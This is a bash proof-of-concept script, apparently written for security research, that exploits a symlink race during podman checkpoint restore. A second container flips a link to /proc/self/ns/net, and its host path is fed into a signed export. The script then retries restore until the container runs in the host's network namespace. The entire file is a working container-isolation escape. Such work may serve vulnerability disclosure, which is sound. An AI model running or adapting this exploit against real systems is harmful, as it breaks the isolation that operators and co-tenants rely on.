#!/bin/bash
# attack30k: HOLE G' with no local user: ANOTHER CONTAINER (attack30k-c1, root inside, --network none) flips a link in
# its own root, /attack30k/net, between a missing target and /proc/self/ns/net. The host path of that link (its merged
# dir) goes into spec.dump; runc resolves /proc/self as runc: the host's netns. No host PID needed.
# SIGNED export, default policy. usage: [ALL=1] [TRIES=N] netrace-ctr.sh
set -u; export CONTAINERS_CONF=/var/tmp/attack30k/dcontainers.conf
D=/var/tmp/attack30k; H=$(dirname "$(readlink -f "$0")"); cd $D
podman rm -f -t0 attack30k-c1 >/dev/null 2>&1
podman run -d --name attack30k-c1 --network none localhost/gpuckpt-test:latest python3 -c "
import os, time
os.makedirs('/attack30k', exist_ok=True)
while True:
    for target in ('/attack30k/gone', '/proc/self/ns/net'):
        os.symlink(target, '/attack30k/.n'); os.replace('/attack30k/.n', '/attack30k/net'); time.sleep(0.004)
" >/dev/null
M=$(podman inspect attack30k-c1 --format '{{.GraphDriver.Data.MergedDir}}'); sleep 1; echo "link: $(stat -c '%N' $M/attack30k/net)"
/usr/lib/gpuckpt/venv/bin/python3 $H/netjoin.py bsrc.tar.zst netracectr.tar.zst $M/attack30k/net
for i in $(seq 1 ${TRIES:-10}); do
  podman rm -f -t 0 attack30k-src >/dev/null 2>&1
  out=$(timeout 100 podman container restore --import netracectr.tar.zst 2>&1 | tail -1 | sed 's/restore of [0-9a-f]*: //' | cut -c1-200)
  PID=$(podman inspect attack30k-src --format '{{.State.Pid}}' 2>/dev/null)
  ns=$([ "${PID:-0}" != 0 ] && readlink /proc/$PID/ns/net)
  echo "try $i ($(date -u +%T)): $out | container netns: ${ns:-none}"
  if [ "$ns" = "$(readlink /proc/self/ns/net)" ]; then
    echo "RESTORED IN THE HOST'S NETNS (signed export, default policy, another container's race), try $i"
    [ "${ALL:-0}" = 1 ] || break
  fi
done
podman rm -f -t 0 attack30k-src attack30k-c1 >/dev/null 2>&1; podman rm -f -t0 attack30k-c1 >/dev/null 2>&1
